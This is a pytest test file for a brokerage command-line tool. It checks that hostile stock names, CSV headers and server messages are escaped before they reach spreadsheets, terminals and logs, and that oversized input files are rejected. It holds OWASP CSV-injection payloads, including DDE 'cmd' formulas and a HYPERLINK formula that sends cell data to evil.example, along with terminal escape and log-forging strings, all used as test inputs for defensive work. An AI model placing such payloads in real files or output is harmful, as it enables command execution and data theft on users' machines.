"""What the command line writes and reads, when the text in it is hostile (issue 21).

Server text (a name, a message) and file text (a CSV's header) reach a spreadsheet, a terminal
and a log; input files reach memory. Each test runs the real CLI against the simulator, or
feeds a pure function a table of cases.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from kis_async import inputs, render
from kis_async.simulator import Fault, Holding, Simulator, server

from . import test_cli
from .test_cli import Cli

cli, creds, home = test_cli.cli, test_cli.creds, test_cli.home
"""tests/test_cli.py's fixtures: the CLI forked with HOME in tmp_path, the simulator's creds."""

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
"""prdt_names a spreadsheet would run as formulas (OWASP's CSV Injection examples)."""


# -- CSV: no cell runs as a formula ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("삼성전자", "삼성전자"),
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1200", "'-1200"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\r=1", "'\\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        ("'quoted", "'quoted"),
    ],
)
def test_csv_cell(text: str, cell: str) -> None:
    assert render.csv_cell(text) == cell


@pytest.mark.parametrize("name", FORMULAS)
async def test_csv_names_never_start_a_formula_and_numbers_stay_numbers(
    sim: Simulator, creds: dict[str, str], cli: Cli, name: str
) -> None:
    """A loss (avg price over the price now) makes the signed amounts negative: those are the
    CLI's own numbers and stay numbers."""
    sim.portfolio["005930"] = Holding(name, 10, Decimal(1200), Decimal(1000))
    code, out, err = await cli("check", "005930", "--csv", env=creds)
    assert code == 0, err
    (row,) = csv.DictReader(io.StringIO(out))
    assert row["prdt_name"].startswith("'"), row
    assert row["prdt_name"][1] in "=+-@\\"
    assert row["evlu_pfls_amt"] == "-2000"
    assert row["evlu_pfls_rt"] == "-16.67"


# -- terminals and logs: nothing from outside is acted on, or forges a line ------------------------

HOSTILE = {
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d0;owned\x9c",
    "DEL": "\x7f",
    "ALM U+061C": "\u061c",
    "LRM U+200E": "\u200e",
    "RLM U+200F": "\u200f",
    "LRE U+202A": "\u202a",
    "RLE U+202B": "\u202b",
    "PDF U+202C": "\u202c",
    "LRO U+202D": "\u202d",
    "RLO U+202E": "\u202e",
    "LRI U+2066": "\u2066",
    "RLI U+2067": "\u2067",
    "FSI U+2068": "\u2068",
    "PDI U+2069": "\u2069",
    "ESC": "\x1b]0;owned\x07",
    "CR LF": "\r\nWARNING forged",
    "LINE SEPARATOR": "\u2028",
    "a tag past U+FFFF": "\U000e0001",
}
"""Characters a terminal acts on (or a reader is fooled by) that must never reach it raw."""
RAW = set("".join(HOSTILE.values())) - set("]0;owned2JWARNING forged\r\n")


def _raw(text: str) -> set[str]:
    return set(text) & RAW


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_printable_escapes_what_a_terminal_would_act_on(text: str) -> None:
    shown = render.printable(f"삼성전자{text}우")
    assert shown.isprintable()
    assert shown.startswith("삼성전자") and shown.endswith("우")
    assert shown == "삼성전자" + ascii(text)[1:-1] + "우"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_json_text_escapes_them_and_stays_lossless(text: str) -> None:
    value = {"prdt_name": f"삼성전자{text}", "n": [1, "-2"]}
    encoded = render.json_text(value)
    assert encoded.isprintable()
    assert "삼성전자" in encoded, "Hangul stays as it is"
    assert json.loads(encoded) == value


@pytest.mark.parametrize(
    ("message", "shown"),
    [
        ("plain", "WARNING kis_async.x: plain"),
        ("a\nWARNING kis_async.x: forged", "WARNING kis_async.x: a\\nWARNING kis_async.x: forged"),
        ("a\r\nb", "WARNING kis_async.x: a\\r\\nb"),
    ],
)
def test_one_line_formatter_keeps_a_record_on_one_line(message: str, shown: str) -> None:
    record = logging.LogRecord("kis_async.x", logging.WARNING, __file__, 1, message, (), None)
    assert render.OneLineFormatter().format(record) == shown


def test_one_line_formatter_folds_a_traceback_into_the_record() -> None:
    try:
        raise ValueError("server said\nERROR kis_async.client: forged")
    except ValueError:
        exc_info = sys.exc_info()
    record = logging.LogRecord("kis_async.x", logging.DEBUG, __file__, 1, "failed", (), exc_info)
    line = render.OneLineFormatter().format(record)
    assert "\n" not in line and "\r" not in line
    assert line.startswith("DEBUG kis_async.x: failed\\nTraceback")


@pytest.mark.parametrize("form", ["--json", "--json-lines"])
async def test_json_output_escapes_c1_bidi_and_del_and_keeps_the_name(
    sim: Simulator, creds: dict[str, str], cli: Cli, form: str
) -> None:
    name = "삼성\u202e전자\x9b2J\x7f"
    sim.portfolio["005930"] = Holding(name, 10, Decimal(1000), Decimal(1200))
    code, out, err = await cli("check", "005930", form, env=creds)
    assert code == 0, err
    assert not _raw(out) and not _raw(err)
    assert "\\u202e" in out and "\\u009b" in out and "\\u007f" in out
    record = json.loads(out)
    result = record["results"][0] if form == "--json" else record
    assert result["prdt_name"] == name


async def test_table_and_csv_escape_c1_bidi_and_del(
    sim: Simulator, creds: dict[str, str], cli: Cli
) -> None:
    name = "삼성\u202e전자\x9b2J\x7f\u2066"
    sim.portfolio["005930"] = Holding(name, 10, Decimal(1000), Decimal(1200))
    for form in ([], ["--csv"]):
        code, out, err = await cli("check", "005930", *form, env=creds)
        assert code == 0, err
        assert not _raw(out) and not _raw(err)
        assert "삼성\\u202e전자\\x9b2J\\x7f\\u2066" in out


async def test_a_csv_header_cannot_drive_the_terminal(
    sim: Simulator, creds: dict[str, str], cli: Cli, tmp_path: Path
) -> None:
    path = tmp_path / "names.csv"
    path.write_text("이름\x1b]0;owned\x07,수량\x1b[2J\x9b\u202e\n삼성전자,10\n")
    result = await cli("check", "--file", str(path), env=creds)
    test_cli.assert_one_clean_line(result, "no column of tickers", "이름\\x1b]0;owned\\x07")
    assert not _raw(result.err)
    assert sim.stats.calls == 0


async def test_a_newline_in_msg1_cannot_forge_a_log_line_at_vv(
    sim: Simulator, creds: dict[str, str], cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The holdings listing fails with a msg1 that has a whole log line in it; at -vv the
    failure is logged with its traceback, which quotes msg1."""
    forged = "WARNING kis_async.client: holdings: all sold"

    def refusal(request: web.Request, output: dict[str, str], ctx: Any) -> web.Response:
        payload = {"rt_cd": "1", "msg_cd": "SIM00409", "msg1": f"조회 불가\r\n{forged}\x9b"}
        return web.json_response(payload, status=500)

    monkeypatch.setitem(server._BUILDERS, Fault.ACCOUNT_QUOTED, refusal)
    sim.inject_balance(Fault.ACCOUNT_QUOTED, times=20)
    code, _, err = await cli("-vv", "check", "--holdings", env=creds)
    assert code == 1, err
    assert "DEBUG kis_async.cli: listing the holdings failed" in err
    assert forged in err, "still shown, escaped, inside its record"
    assert not [line for line in err.splitlines() if line.startswith(forged)], err
    assert not _raw(err)


# -- input files: read to a bound, and a too-big or broken one is a usage error --------------------


class Trickle(io.RawIOBase):
    """A raw stream, as a pipe is, handing over at most ``step`` bytes a read."""

    def __init__(self, data: bytes, step: int) -> None:
        self.data, self.step = data, step

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: Any) -> int:
        chunk, self.data = self.data[: min(self.step, len(buffer))], self.data[self.step :]
        buffer[: len(chunk)] = chunk
        return len(chunk)


@pytest.mark.parametrize(
    ("size", "step", "fits"),
    [(0, 7, True), (99, 7, True), (100, 7, True), (101, 7, False), (100, 1000, True)],
)
def test_bounded_reads_to_the_limit_and_no_further(
    monkeypatch: pytest.MonkeyPatch, size: int, step: int, fits: bool
) -> None:
    monkeypatch.setattr(inputs, "MAX_INPUT_BYTES", 100)
    stream = Trickle(b"x" * size, step)
    if fits:
        assert inputs._bounded(stream, "list.txt") == b"x" * size
    else:
        with pytest.raises(inputs.UsageError, match=r"^list.txt is larger than 0 MiB"):
            inputs._bounded(stream, "list.txt")
        assert len(stream.data) < size, "stopped at the limit"


@pytest.mark.parametrize(
    ("args", "needles"),
    [
        (["--file", "/dev/zero"], ("/dev/zero is larger than 16 MiB",)),
        (["005930", "--env-file", "/dev/zero"], ("env file /dev/zero is larger than 16 MiB",)),
    ],
    ids=["--file", "--env-file"],
)
async def test_an_endless_file_is_a_usage_error_naming_it(
    sim: Simulator, creds: dict[str, str], cli: Cli, args: list[str], needles: tuple[str, ...]
) -> None:
    result = await cli("check", *args, env=creds)
    test_cli.assert_one_clean_line(result, *needles)
    assert sim.stats.calls == 0


async def test_too_much_on_stdin_is_a_usage_error_naming_standard_input(
    sim: Simulator, creds: dict[str, str], cli: Cli
) -> None:
    padding = b"# padding\n" * (inputs.MAX_INPUT_BYTES // 10 + 1)
    result = await cli("check", "--file", "-", env=creds, stdin=padding)
    test_cli.assert_one_clean_line(result, "standard input is larger than 16 MiB")
    assert sim.stats.calls == 0


async def test_a_cell_past_the_csv_field_limit_is_a_usage_error_naming_the_file(
    sim: Simulator, creds: dict[str, str], cli: Cli, tmp_path: Path
) -> None:
    path = tmp_path / "holdings.csv"
    path.write_text("종목명,종목코드\n" + '"' + "x" * (128 * 1024 + 1) + '",005930\n')
    result = await cli("check", "--file", str(path), env=creds)
    test_cli.assert_one_clean_line(result, f"{path}: not CSV this reads", "field limit")
    assert sim.stats.calls == 0
